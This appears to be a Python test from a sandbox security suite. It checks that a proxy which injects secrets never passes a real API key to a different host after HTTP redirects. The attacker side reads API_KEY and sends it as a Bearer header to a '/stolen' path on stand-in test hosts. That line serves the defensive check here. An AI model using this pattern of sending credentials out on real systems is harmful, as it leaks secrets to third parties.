"""SE-06: Have the bound host redirect the secret.

Claim: After a redirect the other host gets the placeholder at most, never the value, and the redirect itself has no value in it.
Technique: Redirects of every status from the bound host to another, with a client that sends its credentials again.
Source: -
Tiers: jail contained
"""

DRIVEN = True


def inside():
    import os

    key = os.environ["API_KEY"]
    results = {}
    for status in (301, 302, 303, 307, 308):
        for target in ("https://other.far.test:28443/stolen", "https://sub.api.far.test:28443/stolen"):
            own = "api.far.test:28443"
            answer = attack.ask_tls("api.far.test", 28443, attack.request("GET", f"/redirect?status={status}&to={target}", own, f"Authorization: Bearer {key}"))
            host = target.split("/")[2]
            results[f"{status} {host}"] = [attack.status_of(answer), attack.status_of(attack.ask_tls(host.split(":")[0], 28443, attack.request("GET", "/stolen", host, f"Authorization: Bearer {key}")))]
    attack.say("results", results)
    attack.say("key", key)


def outside(trial):
    value = trial.secret("redirected", env="API_KEY")
    allow = ["other.far.test:28443/tls", {"host": "sub.api.far.test", "ports": [28443], "protocol": "tls", "methods": ["GET"]}]
    trial.sandbox(network={"secrets": ["redirected"], "allow": allow})
    trial.run()
    for name, (first, second) in trial.found["results"].items():
        trial.equal(first, name.split()[0], f"{name}: the redirect")
        trial.equal(second, "200" if "other" in name else "403", f"{name}: what follows")
    for one in trial.far.seen:
        if one["path"] == "/stolen":
            trial.check(value not in str(one), "the value arrived at another host")
            trial.check(trial.found["key"] in str(one), "the placeholder did not arrive")
